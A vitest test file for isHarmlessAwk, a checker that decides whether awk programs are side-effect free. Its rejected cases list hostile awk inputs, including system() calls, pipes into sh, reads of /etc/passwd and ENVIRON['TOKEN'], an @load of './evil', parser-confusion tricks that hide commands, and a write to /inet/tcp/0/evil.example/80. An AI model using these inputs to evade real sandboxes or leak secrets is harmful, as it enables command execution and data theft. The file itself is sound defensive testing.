import { beforeAll, describe, expect, it } from "vitest";
import { ensurePrograms } from "../../../src/lab/machine/ensure-programs.js";
import { isHarmlessAwk } from "../../../src/policy/programs/checks/awk.js";
import { runInThrowawayFolder } from "./throwaway-folder.js";

const AWKS = [["gawk"], ["mawk"], ["busybox", "awk"], ["original-awk"]];
const FILES = { "in.txt": "a 1 pwned\nb 2 x/y\n\nc 3 >\n" };

beforeAll(() =>
  ensurePrograms({ gawk: "gawk", mawk: "mawk", busybox: "busybox", "original-awk": "original-awk" }),
);

function leftBy(awk: readonly string[], program: string): readonly string[] {
  return runInThrowawayFolder([...awk, program, "in.txt"], { files: FILES }).left;
}

describe("programs of awk that compute and print", () => {
  it.each<[program: string, about: string]>([
    ["{print $1}", "a column"],
    ["{ print $2, $3 }", "two"],
    ["{print $NF}", "the last"],
    ["{print $(NF-1)}", "the one before"],
    ['{ $1=""; print }', "all but the first"],
    ["NR>=10 && NR<=20", "lines"],
    ["NR==1;NR==3", "two lines"],
    ["NR%2", "each second line"],
    ["$1 > 3", "a comparison is no redirect"],
    ['length > 120 { print FILENAME ": " FNR }', "long lines"],
    ["length($0) > 2", "with parentheses"],
    ["!seen[$0]++", "without doubles"],
    ["!/^#/", "a pattern denied"],
    ["/a/,/c/", "from pattern to pattern"],
    ["/^## /{n++} n==1", "a chapter"],
    ['/a|b/ { print "a | b > c" }', "signs in patterns and texts"],
    ["$3 ~ /x\\/y/ { c++ } END { print c+0 }", "an escaped slash"],
    ["$2 !~ /[0-9]+/", "no match"],
    ["{ total += $2 } END { print total / NR }", "a mean"],
    ["{ a[$1] += $2 } END { for (k in a) print k, a[k] }", "sums"],
    ['BEGIN { FS = ":"; OFS = "\\t" } { print $1, $2 }', "separators"],
    ['BEGIN{printf "%s\\n", "x"}', "printf"],
    ['{ printf("%-10s %d\\n", $1, $2) }', "printf with parentheses"],
    ['{ print ($2 > 1 ? "big" : "small") }', "a comparison in parentheses"],
    ['{ if ($2 > 1) print $1; else print "-" }', "a condition"],
    ["{ if ($2 > 1) { print $1 } else if ($2) { print 1 } else { print 2 } }", "conditions"],
    ['{ for (i = NF; i > 0; i--) printf "%s ", $i; print "" }', "a loop"],
    ["BEGIN { while (i < 3) { i++; print i } }", "another"],
    ["BEGIN { do { i++ } while (i < 3); print i }", "a third"],
    ["{ n = split($0, parts, /[ ,]+/); print n, parts[1] }", "parts"],
    ['{ gsub(/a/, "b"); sub("c", "d"); print toupper($0) }', "replaced"],
    ['{ print substr($1, 1, 3) "-" index($0, "x") }', "texts side by side"],
    ["function max(a, b) { return a > b ? a : b }\n{ m = max(m, $2) }\nEND { print m }", "a function"],
    ["NR > 1 && $2 != prev { print prev\n prev = $2 }", "in lines"],
    ['{ print $1 # a comment: system("touch pwned") > "pwned"\n}', "a comment"],
    ['BEGIN { x[1,2] = 3; if ((1,2) in x) print "yes"; delete x[1,2]; delete x }', "two subscripts"],
    ['{ print > "/dev/stderr" }', "an error message"],
    ['END { printf "%d\\n", NR > "/dev/stderr"; exit 1 }', "another"],
    ["NR == 2 { next } { print; exit }", "an end"],
    ["", "nothing"],
  ])("%j (%s)", (program) => {
    expect(isHarmlessAwk(program)).toBe(true);
    expect(AWKS.map((awk) => leftBy(awk, program))).toEqual(AWKS.map(() => []));
  });
});

describe("programs of awk that do more", () => {
  it.each<[program: string, about: string]>([
    ['BEGIN{system("touch pwned")}', "a program"],
    ['BEGIN{system ("touch pwned")}', "with a blank"],
    ['BEGIN{"touch pwned" | getline}', "a pipe from one"],
    ['BEGIN{"touch pwned" | getline x; print x}', "into a variable"],
    ["{print | \"sh -c 'touch pwned'\"}", "a pipe into one"],
    ['{print > "pwned"}', "a file"],
    ['{print >> "pwned"}', "appended"],
    ["{print $1, $2 > $3}", "a file that a line names"],
    ['{print($1) > "pwned"}', "behind parentheses"],
    ['{print ($1)($2) > "pwned"}', "behind two"],
    ['{printf("%s", $1) > "pwned"}', "printf"],
    ['{printf "a" "b" > "pwned"}', "behind texts"],
    ['{print $1 > "pwned"; close("pwned")}', "closed"],
    ['{print 1 > "./" "pwned"}', "a name in two parts"],
    ['{ if (1) print > "pwned" }', "in a condition"],
    ['{ print 1 ? 2 : 3 > "pwned" }', "behind a choice"],
    ['{ print 1,\n2 > "pwned" }', "over two lines"],
    ['{ print 1 &&\n2 > "pwned" }', "over two lines, by an operator"],
    ['{ print a[1] > "pwned" }', "behind a subscript"],
    ['{ print $1 /2/ 1 > "pwned" }', "behind divisions"],
    ['{ n++ /2/ 1; print > "pwned" }', "a slash that can be either"],
    ['{ print "x" > "/dev/stderr"; print > "pwned" }', "behind an error message"],
    ['function f() { print > "pwned" } BEGIN { f() }', "in a function"],
    ['{ print > ("pwn" "ed") }', "in parentheses"],
  ])("%j, and it happens (%s)", (program) => {
    expect(isHarmlessAwk(program)).toBe(false);
    expect(AWKS.map((awk) => leftBy(awk, program).length > 0)).toContain(true);
  });

  it.each<[program: string, about: string]>([
    ['{ getline line < "/etc/passwd"; print line }', "another file is read"],
    ['{ while ((getline line < "x") > 0) print line }', "in a loop"],
    ['BEGIN { ARGV[1] = "/etc/passwd"; ARGC = 2 } 1', "another file to read"],
    ['BEGIN { print ENVIRON["TOKEN"] }', "the environment"],
    ["BEGIN { for (k in ENVIRON) print k }", "all of it"],
    ['BEGIN { SYMTAB["ARGV"][1] = "x" }', "a variable by its name"],
    ['BEGIN { f = "system"; @f("touch pwned") }', "a function by its name"],
    ['@load "./evil"\nBEGIN {}', "a library"],
    ['@include "evil"\nBEGIN {}', "another program"],
    ['@namespace "x"', "other names"],
    ['BEGIN { awk::ARGV[1] = "x" }', "a name with its namespace"],
    ['BEGIN { print "x" > "/inet/tcp/0/evil.example/80" }', "the network"],
    ['BEGIN { print "x" |& "sh" }', "a program at both ends"],
    ['{ print > "/dev/stderr" ".x" }', "more behind the stream's name"],
    ['{ print a[1 > "x"] }', "a redirect to mawk, a comparison to others"],
    ['{ if (1) /x/; system("touch pwned") ; /x/ }', "a slash behind a condition"],
    ['{ if (1) / "/ ; system("touch pwned") ; "/ / 1 }', "a text to one, a pattern to another"],
    ["/[/]/ { print }", "a bracket that some end and some do not"],
    [String.raw`/[\]/]/ { print }`, "a backslash in brackets"],
    ["{ x = length / 2 /1; print }", "length without parentheses"],
    ["{ x /= 2/1 } /=a/", "a pattern that begins with ="],
    ['BEGIN { bindtextdomain("./evil") }', "a folder of translations"],
    ['BEGIN { bindtextdomain ("./evil") }', "with a blank"],
    ["function system(x) { }", "a function of a known name"],
    ['BEGIN { x = "a\\\nb" }', "a text over two lines"],
    ["BEGIN { x = 1 + \\\n 2 }", "a line that goes on"],
    ["# comment \\\nBEGIN { print }", "a comment that goes on"],
    ["BEGIN { print 0x10 }", "a number that awks read differently"],
    ["BEGIN { switch (x) { case 1: print } }", "what only gawk knows"],
    ['BEGIN { print "x', "a text that is not closed"],
    ["BEGIN { print 1", "a block that is not closed"],
    ["BEGIN { print (1 }", "parentheses that are not closed"],
    ["BEGIN {\r print }", "a carriage return"],
    [`BEGIN { x = ${"(".repeat(100)}1${")".repeat(100)} }`, "too deep"],
  ])("%j (%s)", (program) => expect(isHarmlessAwk(program)).toBe(false));
});
